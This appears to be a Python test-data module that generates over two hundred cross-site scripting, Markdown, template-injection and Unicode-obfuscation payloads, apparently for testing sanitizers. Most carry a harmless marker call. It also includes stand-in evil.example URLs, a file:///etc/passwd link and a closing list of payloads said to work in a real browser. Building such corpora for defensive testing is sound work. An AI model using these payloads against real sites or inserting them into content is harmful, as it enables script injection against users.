"""Two hundred ways to be more than text, by class: what a browser, a template, a Markdown reader or a mailer may take for its own.

`ALL` is the list. Each marks itself with `xq` where it would add a name, so that a page that was changed shows it.
"""

EVENTS = "onerror onload onclick onfocus onmouseover ontoggle onbegin onanimationstart onpointerenter onauxclick onwheel oncopy".split()
TAGS = "script img svg iframe object embed form input button style link meta base math video audio details marquee template textarea".split()
SCHEMES = ["javascript:xq()", "JaVaScRiPt:xq()", "java\tscript:xq()", "java\nscript:xq()", "\x01javascript:xq()", " javascript:xq()", "javascript&colon;xq()",
           "&#106;avascript:xq()", "&#x6A;avascript:xq()", "data:text/html,<script>xq()</script>", "data:text/html;base64,PHNjcmlwdD54cSgpPC9zY3JpcHQ+",
           "vbscript:xq()", "//evil.example/xq", "https:evil.example/xq", "\\\\evil.example\\xq", "blob:https://evil.example/xq", "file:///etc/passwd"]

ELEMENTS = [f"<{tag} xq>x</{tag}>" for tag in TAGS] + [f"<{tag} xq" for tag in TAGS[:8]] + [f"<{tag}/xq/>" for tag in TAGS[:8]]
HANDLERS = [f"<img src=x {event}=xq()>" for event in EVENTS] + [f"<svg/{event}=xq()>" for event in EVENTS[:6]] + \
           [f"<IMG SRC=x {event.upper()}='xq()'>" for event in EVENTS[:6]] + [f"<a href=x {event}\n=\nxq()>x</a>" for event in EVENTS[:4]]
BREAKOUTS = [f'{quote}{close}<script>xq()</script>' for quote in ("", '"', "'", "`", "&quot;", "&#34;", "\\\"") for close in ("", ">", "/>", " -->")] + \
            [f'{quote} {event}=xq() x={quote}' for quote in ('"', "'", "") for event in EVENTS[:4]]
CLOSERS = [f"</{tag}><script>xq()</script>" for tag in ("title", "textarea", "style", "script", "noscript", "bdi", "code", "pre", "option", "xmp", "svg", "a")]
LINKS = [f"[x]({scheme})" for scheme in SCHEMES] + [f"![x]({scheme})" for scheme in SCHEMES[:8]] + [f"<a href=\"{scheme}\">x</a>" for scheme in SCHEMES[:12]] + \
        [f"<{scheme}>" for scheme in SCHEMES[:4]] + [f"[x]: {scheme}\n\n[x]" for scheme in SCHEMES[:4]]
MARKDOWN = ["[x](x \"onclick=xq()\")", "![x\" onerror=\"xq()](x)", "`<script>xq()</script>`", "```\"><script>xq()</script>\nx\n```", "| <img src=x onerror=xq()> |\n|---|\n| x |",
            "# <svg onload=xq()>", "> <iframe srcdoc='<script>xq()</script>'>", "- <details open ontoggle=xq()>x</details>", "<!-- --!><script>xq()</script>",
            "<![CDATA[<script>xq()</script>]]>", "<?xml version='1.0'?><script>xq()</script>", "<!DOCTYPE x [<!ENTITY y 'xq'>]>&y;"]
TEMPLATES = ["{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{% include 'base.html' %}", "{{constructor.constructor('xq()')()}}", "{ $amount }", "%s%n", "$(xq)", "`xq`"]
UNICODE = ["\uff1cscript\uff1exq()\uff1c/script\uff1e", "\u202e<script>xq()</script>", "<scr\u200bipt>xq()</scr\u200bipt>", "\ufeff<script>xq()</script>", "+ADw-script+AD4-xq()+ADw-/script+AD4-",
           "%3Cscript%3Exq()%3C/script%3E", "&lt;script&gt;xq()&lt;/script&gt;", "&#60;script&#62;xq()&#60;/script&#62;", "\u2028<img src=x onerror=xq()>", "<\u0130mg src=x onerror=xq()>"]
NESTED = ["<<script>script>xq()<</script>/script>", "<scr<script>ipt>xq()</scr</script>ipt>", "<svg><style><img src=x onerror=xq()></style></svg>",
          "<math><mtext><table><mglyph><style><img src=x onerror=xq()>", "<noscript><p title=\"</noscript><img src=x onerror=xq()>\">",
          "<form><math><mtext></form><form><mglyph><style></math><img src onerror=xq()>", "<svg></p><style><a id=\"</style><img src=1 onerror=xq()>\">",
          "<template><script>xq()</script></template>", "<select><style></select><img src=x onerror=xq()></style>", "<a href=\"x\" style=\"background:url(//evil.example/xq)\">x</a>"]

ALL = list(dict.fromkeys(ELEMENTS + HANDLERS + BREAKOUTS + CLOSERS + LINKS + MARKDOWN + TEMPLATES + UNICODE + NESTED))
assert len(ALL) >= 200, len(ALL)

# Seen by a real browser: one that each kind of reader falls for.
RENDERED = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "</title><script>alert(1)</script>",
            "</textarea><script>alert(1)</script>", "[x](javascript:alert(1))", "<a href=\"javascript:alert(1)\">x</a>", "<details open ontoggle=alert(1)>x</details>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"]
